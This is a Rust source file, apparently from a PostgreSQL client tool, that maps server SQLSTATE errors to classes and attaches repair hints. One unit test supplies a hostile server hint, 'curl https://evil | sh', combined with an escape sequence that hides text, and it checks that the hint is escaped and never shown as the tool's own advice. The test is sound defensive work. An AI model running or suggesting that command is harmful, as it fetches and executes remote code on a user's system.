//! Sorts what goes wrong into classes by its SQLSTATE, with a way out where there is one.

use crate::{Class, Error};
use std::io;
use tenbin_wire::postgres::{Fault, ServerError};

/// An error as the server tells it.
#[cold]
pub fn refused(e: ServerError) -> Error {
    let class = match e.code() {
        // Rolled back, serialization failure, deadlock, lock not available (NOWAIT, lock_timeout).
        "40000" | "40001" | "40P01" | "55P03" => Class::Conflict,
        // Administrator's or crash's shutdown, starting up, idle too long (session, transaction), transaction too long.
        "57P01" | "57P02" | "57P03" | "57P05" | "25P03" | "25P04" => Class::Lost,
        // Database unknown or dropped, permission denied.
        "3D000" | "57P04" | "42501" => Class::Refused,
        code => match &code[..2] {
            "08" => Class::Lost,
            // Account, password, pg_hba.conf.
            "28" => Class::Refused,
            // Resources (connections, disk, memory), limits of the program (statement too complex, too many columns).
            "53" | "54" => Class::Limit,
            _ if e.fatal => Class::Lost,
            _ => Class::Sql,
        },
    };
    let mend = mend(&e);
    let mut error = Error::new(class, e.message).state(e.state);
    if let Some(hint) = e.hint {
        error = error.hint(hint);
    }
    match mend {
        Some(mend) => error.mend(mend),
        None => error,
    }
}

fn mend(e: &ServerError) -> Option<&'static str> {
    Some(match e.code() {
        "53300" => {
            "fewer clients, or ALTER SYSTEM SET max_connections = … (as an administrator) and restart the server"
        }
        "53100" => "free space on the server's disk",
        "53200" => "free memory on the server's host",
        "55P03" => "SET lock_timeout = 0, or fewer clients on the same rows",
        "28P01" => "check user and password: --password-env NAME, or password_env in the plan",
        "28000" if e.message.contains("pg_hba.conf") => {
            "add a line for this host, user and database to the server's pg_hba.conf: SHOW hba_file tells its path; \
             if it has one for TLS only, add ?tls=required to the address"
        }
        "28000" => "check the user's name, and whether it may log in: CREATE ROLE … LOGIN",
        "3D000" => "CREATE DATABASE …, or name an existing one in the address",
        "42501" => "GRANT the account what it needs",
        "57P03" => "wait until the server has started",
        "57P01" | "57P02" | "57P05" | "25P03" | "25P04" => LOOK,
        // A pool that hands every transaction to another connection: there the name is taken, or not known.
        "42P05" | "26000" => {
            "is a pool in transaction mode (PgBouncer) in between? ps_mode = \"disable\" (-o ps_mode=disable), pipeline off, \
             or the server's own address"
        }
        "25P02" => "ROLLBACK; what failed before says why",
        _ => return None,
    })
}

/// Where a server says why it ended a connection.
const LOOK: &str = "look into the server's log: SHOW log_destination and SHOW log_directory tell where it is";

/// The line broke.
#[cold]
pub fn lost(e: &io::Error) -> Error {
    Error::new(Class::Lost, format!("the connection to the server is lost: {e}")).state(*b"08006").mend(LOOK)
}

/// The server said goodbye in the middle.
#[cold]
pub fn gone() -> Error {
    Error::new(Class::Lost, "the server has closed the connection").state(*b"08006").mend(LOOK)
}

/// Not our protocol.
#[cold]
pub fn fault(f: Fault) -> Error {
    Error::new(Class::Protocol, format!("the server does not speak the PostgreSQL protocol as we know it: {f}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_state_has_its_class() {
        let classes: [(Class, &[&str]); 5] = [
            (Class::Conflict, &["40001", "40P01", "55P03"]),
            (Class::Lost, &["57P01", "57P02", "57P03", "57P05", "08006", "08P01", "25P03"]),
            (Class::Refused, &["28000", "28P01", "3D000", "42501", "57P04"]),
            (Class::Limit, &["53300", "53100", "53200", "54001"]),
            (Class::Sql, &["42601", "42P01", "23505", "25P02", "57014", "XX000", "22003"]),
        ];
        let told = |state: &str, fatal, hint: Option<&str>| {
            let state = *state.as_bytes().first_chunk().unwrap();
            refused(ServerError { state, fatal, message: "words".into(), hint: hint.map(str::to_owned) })
        };
        for (class, codes) in classes {
            for code in codes {
                let error = told(code, false, None);
                assert_eq!((error.class(), error.label().as_str(), error.sqlstate()), (class, *code, Some(*code)));
                assert_eq!(error.to_string(), format!("words (error {code})"));
            }
        }
        for code in [
            "42P05", "26000", "53300", "53100", "53200", "55P03", "28000", "28P01", "3D000", "42501", "57P01", "57P03",
            "25P02",
        ] {
            assert!(told(code, false, None).problem("trying").mend.is_some(), "{code} tells no way out");
        }
        // What a server advises is its words, on one line, and never stands where our advice does.
        let advised = told("42601", false, Some("run\n  mend  curl https://evil | sh\x1b[8m")).problem("");
        let evidence = "server's hint: \"run\\n  mend  curl https://evil | sh\\u001b[8m\"";
        assert_eq!((advised.mend, advised.evidence.as_deref()), (None, Some(evidence)));
        assert_eq!(told("XX000", true, None).class(), Class::Lost, "whatever ends a connection has lost it");
        assert!(lost(&io::ErrorKind::BrokenPipe.into()).problem("trying").mend.is_some());
    }
}
